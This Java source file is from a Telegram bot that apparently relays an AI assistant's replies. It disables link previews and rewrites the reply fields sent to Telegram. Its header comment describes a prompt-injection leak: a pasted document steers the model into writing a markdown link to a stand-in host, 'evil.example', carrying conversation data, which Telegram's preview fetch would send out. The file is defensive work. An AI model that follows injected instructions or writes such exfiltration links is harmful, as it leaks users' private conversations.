package dev.camelassistant.telegram;

import java.io.IOException;
import java.lang.reflect.Field;

import com.fasterxml.jackson.annotation.JsonProperty;
import com.fasterxml.jackson.core.JsonGenerator;
import com.fasterxml.jackson.databind.JsonSerializer;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.SerializerProvider;
import com.fasterxml.jackson.databind.annotation.JsonSerialize;
import org.apache.camel.Endpoint;
import org.apache.camel.component.telegram.TelegramEndpoint;
import org.apache.camel.component.telegram.model.EditMessageTextMessage;
import org.apache.camel.component.telegram.model.OutgoingMessage;
import org.apache.camel.component.telegram.model.OutgoingTextMessage;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;

/**
 * No link previews on what the bot sends: Telegram's servers fetch the first link of a message to draw
 * its preview, so an answer that Claude was steered into writing ({@code [.](https://evil.example/?d=…)},
 * from a pasted document) would leak the conversation to that server without anyone clicking.
 * <p>
 * The Bot API's field is {@code link_preview_options: {"is_disabled": true}} (since Bot API 7.0; the older
 * {@code disable_web_page_preview} is no longer documented). camel-telegram 4.17's model carries only the
 * older field ({@code OutgoingTextMessage}, {@code EditMessageTextMessage}: {@code disableWebPagePreview}),
 * and it serializes with an {@link ObjectMapper} of its own, made in {@code TelegramServiceRestBotAPIAdapter}
 * and never exposed. {@link #install(Endpoint)} adds Jackson mix-ins to that mapper (read once, by
 * reflection, when a lane's endpoint has started and before it sends anything) that write the flag under the
 * documented name and shape. Should a later camel-telegram move the field, the mix-in cannot be installed:
 * that is logged once per lane and the older field is sent, which Telegram still honours, so previews stay off
 * either way. {@code TelegramSenderPreviewTest} checks the JSON that reaches a fake Telegram.
 */
final class LinkPreviews {

    private static final Logger LOG = LoggerFactory.getLogger(LinkPreviews.class);

    private LinkPreviews() {
    }

    /** A text message to {@code chatId} with previews off. */
    static OutgoingTextMessage message(String chatId, String text, String parseMode) {
        OutgoingTextMessage message = new OutgoingTextMessage();
        message.setChatId(chatId);
        message.setText(text);
        message.setParseMode(parseMode);
        message.setDisableWebPagePreview(Boolean.TRUE);
        return message;
    }

    /** An edit of message {@code messageId} of {@code chatId} with previews off. */
    static EditMessageTextMessage edit(String chatId, int messageId, String text, String parseMode) {
        return new EditMessageTextMessage(chatId, messageId, null, text, parseMode, Boolean.TRUE, null);
    }

    /**
     * Makes a started camel-telegram endpoint write the preview flag as {@code link_preview_options}. Any
     * other endpoint (a test's mock) is left alone. Returns whether the mix-ins are in place.
     */
    static boolean install(Endpoint endpoint) {
        if (!(endpoint instanceof TelegramEndpoint telegram) || telegram.getTelegramService() == null) {
            return false;
        }
        Object service = telegram.getTelegramService();
        try {
            Field field = service.getClass().getDeclaredField("mapper");
            field.setAccessible(true);
            install((ObjectMapper) field.get(service));
            return true;
        } catch (ReflectiveOperationException | RuntimeException e) {
            LOG.warn("camel-telegram's message mapper could not be reached ({}): link previews are turned off with"
                     + " the older disable_web_page_preview field", e.getClass().getSimpleName());
            return false;
        }
    }

    /** Adds the mix-ins to {@code mapper}; before its first use, as Jackson caches serializers. */
    static void install(ObjectMapper mapper) {
        mapper.addMixIn(OutgoingTextMessage.class, PreviewOptions.class);
        mapper.addMixIn(EditMessageTextMessage.class, PreviewOptions.class);
        mapper.addMixIn(OutgoingMessage.class, ReplyParameters.class);
    }

    /**
     * A reply is written as the documented {@code reply_parameters} (Bot API 7.0), with
     * {@code allow_sending_without_reply}: the answer still arrives if the user deleted the message it replies to
     * (the model's {@code reply_to_message_id} would make Telegram refuse it with 400).
     */
    abstract static class ReplyParameters {
        @JsonProperty("reply_parameters")
        @JsonSerialize(using = ReplyTo.class)
        @com.fasterxml.jackson.annotation.JsonInclude(com.fasterxml.jackson.annotation.JsonInclude.Include.NON_NULL)
        Long replyToMessageId;
    }

    /** {@code 42} → {@code {"message_id": 42, "allow_sending_without_reply": true}} */
    static final class ReplyTo extends JsonSerializer<Long> {
        @Override
        public void serialize(Long messageId, JsonGenerator json, SerializerProvider provider) throws IOException {
            json.writeStartObject();
            json.writeNumberField("message_id", messageId);
            json.writeBooleanField("allow_sending_without_reply", true);
            json.writeEndObject();
        }
    }

    /** Renames the model's {@code disableWebPagePreview} field and writes it as an object. */
    abstract static class PreviewOptions {
        @JsonProperty("link_preview_options")
        @JsonSerialize(using = IsDisabled.class)
        Boolean disableWebPagePreview;
    }

    /** {@code true} → {@code {"is_disabled": true}} */
    static final class IsDisabled extends JsonSerializer<Boolean> {
        @Override
        public void serialize(Boolean disabled, JsonGenerator json, SerializerProvider provider) throws IOException {
            json.writeStartObject();
            json.writeBooleanField("is_disabled", disabled);
            json.writeEndObject();
        }
    }
}
